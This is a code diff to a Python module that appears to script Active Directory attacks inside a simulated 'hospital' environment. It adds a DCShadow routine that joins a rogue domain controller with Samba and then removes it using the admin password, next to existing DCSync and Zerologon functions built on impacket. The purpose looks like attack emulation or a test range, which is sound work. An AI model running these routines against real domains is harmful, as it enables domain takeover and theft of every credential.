@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shutil
 from collections.abc import Sequence
 from contextlib import suppress
 from datetime import datetime
@@ -11,7 +12,7 @@ from act import Doing
 from impacket.dcerpc.v5 import drsuapi, epm, nrpc, transport
 from impacket.dcerpc.v5.rpcrt import DCERPCException
 from impacket.examples.secretsdump import RemoteOperations
-from services.directory import ADMIN_PASSWORD, DOMAIN, kerberos_conf, realm
+from services.directory import ADMIN, ADMIN_PASSWORD, DOMAIN, FIRST, join, kerberos_conf, realm
 from space import call
 from state import Hospital
 
@@ -40,6 +41,24 @@ def replicate(names: Sequence[str]) -> Doing:
     return doing
 
 
+def become_controller(host: str, name: str) -> Doing:
+    """DCShadow: a workplace makes itself a controller by what the domain has for that, and takes all there is (MS-DRSR 4.1.1 DRSAddEntry).
+
+    By Samba's own join; the controller never opens, and its entry is removed again, as the tool of that name does.
+    """
+
+    def doing(hospital: Hospital, moment: datetime) -> None:
+        one = hospital.host(host)
+        call(join(hospital, one, name))
+        server = f"ldap://{FIRST}.{realm(hospital).lower()}"
+        words = ["samba-tool", "domain", "demote", f"--remove-other-dead-server={name.upper()}", "-H", server, "-U", ADMIN]
+        call([*words, f"--password={ADMIN_PASSWORD}", "-s", str(hospital.folder(host) / "empty.conf")])
+        for part in ("private", "state", "etc", "bind-dns"):
+            shutil.rmtree(hospital.folder(host) / part, ignore_errors=True)
+
+    return doing
+
+
 class _LogIn:
     """What impacket wants to know of a connection by SMB that we do not make: DCSync goes by TCP."""
 
@@ -51,7 +70,7 @@ class _LogIn:
 
     @staticmethod
     def getCredentials() -> tuple[object, ...]:
-        return "Administrator", ADMIN_PASSWORD, DOMAIN, "", "", "", None, None
+        return ADMIN, ADMIN_PASSWORD, DOMAIN, "", "", "", None, None
 
 
 def zerologon(times: int) -> Doing:
